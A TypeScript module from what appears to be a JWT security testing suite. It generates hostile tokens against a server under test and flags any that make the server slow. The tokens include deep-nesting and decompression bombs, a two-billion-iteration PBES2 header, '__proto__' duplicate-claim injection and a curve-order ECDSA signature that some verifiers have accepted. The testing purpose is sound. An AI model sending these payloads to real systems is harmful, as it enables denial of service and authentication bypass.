import { deflateRawSync } from 'node:zlib'
import type { Random } from '../../attack/random.ts'
import { encodePart, computeSignature, unsigned } from '../../lib/jwt.ts'
import type { Evidence, Suite } from '../suite.ts'
import type { Fixture } from '../fixture.ts'
import { everySlot, show } from '../slots.ts'
import { victimClaims } from '../victim-claims.ts'

/**
 * Maximum time of a response in ms. A slower response shows that an unauthenticated caller can make the server do
 * expensive work.
 */
const longestMs = 3_000

function bomb(fixture: Fixture, random: Random): { readonly what: string; readonly token: string } {
  const { kid } = fixture.serverKey.jwk
  const header = { alg: 'ES256', typ: 'at+jwt', kid }
  const signed = (head: unknown, claims: unknown): string => {
    const text = unsigned(head, claims)
    return `${text}.${computeSignature(fixture.attackerKey, text)}`
  }
  const size = 2 ** (6 + random.int(8))
  const claims = victimClaims(fixture, random)
  const nested = `${'['.repeat(size)}${']'.repeat(size)}`
  const objects = `${'{"a":'.repeat(size)}1${'}'.repeat(size)}`
  const many = Object.fromEntries(Array.from({ length: size }, (_, i) => [`c${i}`, i]))
  const act = `${'{"act":'.repeat(size)}{}${'}'.repeat(size)}`
  return random.pick<{ what: string; token: string }>([
    { what: `deep lists, ${size}`, token: `${encodePart(header)}.${encodePart(nested)}.AA` },
    { what: `deep objects in the header, ${size}`, token: `${encodePart(objects)}.${encodePart(claims)}.AA` },
    { what: `${size} claims`, token: signed(header, { ...claims, ...many }) },
    {
      what: `an act of ${size}`,
      token: signed(header, JSON.stringify(claims).replace('{', `{"act":${act},`)),
    },
    {
      what: `${size} audiences`,
      token: signed(header, { ...claims, aud: Array.from({ length: size }, () => fixture.uri) }),
    },
    { what: `a long sub, ${size}`, token: signed(header, { ...claims, sub: 'x'.repeat(size) }) },
    {
      what: `numbers of ${size} digits`,
      token: `${encodePart(header)}.${encodePart(`{"exp":${'9'.repeat(size)},"iat":1e${size}}`)}.AA`,
    },
    { what: `dots, ${size}`, token: '.'.repeat(size) },
    { what: `letters, ${size}`, token: 'a'.repeat(size) },
    {
      what: 'a compressed JWE',
      token: [
        encodePart({ alg: 'dir', enc: 'A256GCM', zip: 'DEF', kid }),
        '',
        encodePart('iv'),
        deflateRawSync(Buffer.alloc(1_000_000)).toString('base64url'),
        encodePart('tag'),
      ].join('.'),
    },
    {
      what: 'a compressed JWS',
      token: `${encodePart({ ...header, zip: 'DEF' })}.${deflateRawSync(Buffer.from(JSON.stringify(claims))).toString('base64url')}.AA`,
    },
    {
      what: 'PBES2 with a billion iterations',
      token: [
        encodePart({ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 2_000_000_000, p2s: 'AAAA' }),
        'AA',
        'AA',
        'AA',
        'AA',
      ].join('.'),
    },
    {
      what: 'one member twice',
      token: `${encodePart(header)}.${encodePart(`{"sub":"x","sub":"admin","iss":"${fixture.uri}","__proto__":{"sub":"admin"}}`)}.AA`,
    },
    {
      what: 'a header that is not an object',
      token: `${encodePart(random.pick(['[]', 'null', '1', '"x"', '', '{', '\ufeff{}']))}.${encodePart(claims)}.AA`,
    },
    {
      what: 'claims that are not an object',
      token: `${encodePart(header)}.${encodePart(random.pick(['[]', 'null', '1', '"x"', '', '{']))}.AA`,
    },
    {
      what: 'a JWS as JSON',
      token: encodePart(JSON.stringify({ payload: encodePart(claims), signatures: [] })),
    },
    {
      what: 'a signature of zeros',
      token: `${unsigned(header, claims)}.${Buffer.alloc(64).toString('base64url')}`,
    },
    { what: 'a signature of the order', token: `${unsigned(header, claims)}.${orderTwice()}` },
  ])
}

/**
 * Returns an ECDSA signature with r = s = n, the order of the curve. Some verifiers reduced these values to zero and
 * accepted the signature.
 */
function orderTwice(): string {
  const order = 'ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551'
  return Buffer.from(order + order, 'hex').toString('base64url')
}

export const bombs: readonly Suite[] = [
  {
    name: 'bomb',
    about: 'huge, deep, wide, compressed and broken tokens; none takes long',
    weight: 2,
    async attack(fixture, random): Promise<Evidence> {
      const { what, token } = bomb(fixture, random)
      const slot = random.pick(everySlot)
      const seen = await show(fixture, random, slot, token)
      const slow =
        seen.ms > longestMs ? `${what} as ${slot}: the response took ${Math.round(seen.ms)} ms` : undefined
      return { what: `${what}, as ${slot}`, seen: [seen], broken: slow }
    },
  },
]
